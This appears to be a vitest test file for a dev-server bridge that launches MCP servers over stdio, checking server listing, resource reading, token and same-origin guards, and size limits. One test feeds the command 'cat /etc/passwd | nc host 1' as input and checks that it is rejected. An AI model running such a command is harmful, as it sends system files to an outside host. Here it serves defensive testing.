import { connectResourceClient, type ResourceClient } from '@mcp-resource-kit/core';
import { createServer, type Server } from 'node:http';
import { createRequire } from 'node:module';
import { dirname, join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { waitFor } from '../../../../test-support/connect-in-era.ts';
import { TOKEN_HEADER } from '../../src/dev-server-endpoints.ts';
import { createSameOriginGuard } from '../same-origin-guard.ts';
import { createBridgeHandler } from './stdio-bridge-plugin.ts';
import { StdioServerRegistry } from './stdio-server-registry.ts';

const require = createRequire(import.meta.url);
const everything = join(dirname(require.resolve('@modelcontextprotocol/server-everything/package.json')), 'dist', 'index.js');
const EVERYTHING_COMMAND = `${JSON.stringify(process.execPath)} ${JSON.stringify(everything)} stdio`;
const TOKEN = 'this-start-token';
const headers = { [TOKEN_HEADER]: TOKEN };

describe('the stdio bridge, with server-everything over stdio behind it', () => {
  let http: Server;
  let base: string;
  let registry: StdioServerRegistry;

  beforeAll(async () => {
    registry = new StdioServerRegistry({ goneAfterStreamMs: 300 });
    registry.add(EVERYTHING_COMMAND, 'command-line');
    const handler = createBridgeHandler(registry, createSameOriginGuard(TOKEN));
    http = createServer((request, response) => {
      request.url = (request.url ?? '/').replace(/^\/__stdio/, '') || '/';
      handler(request, response, () => response.end());
    });
    await new Promise<void>((resolve) => http.listen(0, '127.0.0.1', resolve));
    const address = http.address();
    base = `http://127.0.0.1:${typeof address === 'object' && address ? address.port : 0}/__stdio`;
  });

  afterAll(async () => {
    await registry.closeAll('the test ended');
    await new Promise((resolve) => http.close(resolve));
  });

  it('lists the servers given on the command line', async () => {
    const response = await fetch(`${base}/servers`, { headers });
    const { servers } = (await response.json()) as { servers: { id: string; commandLine: string; source: string }[] };
    expect(servers).toEqual([expect.objectContaining({ id: 'stdio-1', commandLine: EVERYTHING_COMMAND, source: 'command-line' })]);
  });

  it('connects the kit to the process, lists and reads its resources, and ends the process when the page goes', async () => {
    const client: ResourceClient = await connectResourceClient({ url: `${base}/servers/stdio-1/mcp`, headers });
    try {
      expect(client.era).toBe('legacy');
      expect(client.serverInfo?.name).toMatch(/everything/i);
      const { items } = await client.listAllResources();
      expect(items.length).toBeGreaterThan(0);
      const { contents } = await client.readResource(items[0]!.uri);
      expect(contents[0]?.uri).toBe(items[0]!.uri);
      expect(registry.summary(registry.get('stdio-1')!).running).toBe(1);
    } finally {
      await client.close();
    }
    await waitFor(() => registry.summary(registry.get('stdio-1')!).running === 0, 'the process to end', 10_000);
    expect(registry.summary(registry.get('stdio-1')!).stderr.join('\n')).toMatch(/session ended/);
  });

  it('answers a probe of another era without starting a process', async () => {
    const response = await fetch(`${base}/servers/stdio-1/mcp`, {
      method: 'POST',
      headers: { ...headers, 'content-type': 'application/json', accept: 'application/json, text/event-stream' },
      body: JSON.stringify({ jsonrpc: '2.0', id: 1, method: 'server/discover', params: {} }),
    });
    expect(response.status).toBe(400);
    expect(registry.summary(registry.get('stdio-1')!).running).toBe(0);
  });

  it('adds a command line from the page, and refuses one that needs a shell', async () => {
    const added = await fetch(`${base}/servers`, { method: 'POST', headers, body: JSON.stringify({ commandLine: 'npx -y some-server --root "/tmp/a b"' }) });
    expect(added.status).toBe(201);
    expect(await added.json()).toMatchObject({ id: 'stdio-2', source: 'page' });
    const piped = await fetch(`${base}/servers`, { method: 'POST', headers, body: JSON.stringify({ commandLine: 'cat /etc/passwd | nc host 1' }) });
    expect(piped.status).toBe(400);
    expect(((await piped.json()) as { error: string }).error).toMatch(/needs a shell/);
  });

  it('says which command could not be started', async () => {
    const added = (await (await fetch(`${base}/servers`, { method: 'POST', headers, body: JSON.stringify({ commandLine: 'no-such-program-here --x' }) })).json()) as { id: string };
    await expect(connectResourceClient({ url: `${base}/servers/${added.id}/mcp`, headers, requestTimeoutMs: 5000 })).rejects.toThrow();
    const summary = registry.summary(registry.get(added.id)!);
    expect(summary.running).toBe(0);
    expect(summary.stderr.join('\n')).toMatch(/could not start no-such-program-here/);
  });

  it('refuses bodies over the limit with 413', async () => {
    const response = await fetch(`${base}/servers`, { method: 'POST', headers, body: 'x'.repeat(64 * 1024) });
    expect(response.status).toBe(413);
  });

  it('starts nothing for a request without this start\'s token, or from another origin', async () => {
    const before = registry.list().length;
    const tokenless = await fetch(`${base}/servers`, { method: 'POST', body: JSON.stringify({ commandLine: 'touch /tmp/x' }) });
    expect(tokenless.status).toBe(403);
    const foreign = await fetch(`${base}/servers`, {
      method: 'POST',
      headers: { ...headers, origin: 'http://127.0.0.1:1', 'sec-fetch-site': 'same-site' },
      body: JSON.stringify({ commandLine: 'touch /tmp/x' }),
    });
    expect(foreign.status).toBe(403);
    const wrongToken = await fetch(`${base}/servers/stdio-1/mcp`, {
      method: 'POST',
      headers: { [TOKEN_HEADER]: 'guessed', 'content-type': 'application/json', accept: 'application/json, text/event-stream' },
      body: JSON.stringify({ jsonrpc: '2.0', id: 1, method: 'initialize', params: { protocolVersion: '2025-11-25', capabilities: {}, clientInfo: { name: 't', version: '1' } } }),
    });
    expect(wrongToken.status).toBe(403);
    expect(registry.list()).toHaveLength(before);
    expect(registry.summary(registry.get('stdio-1')!).running).toBe(0);
  });
});
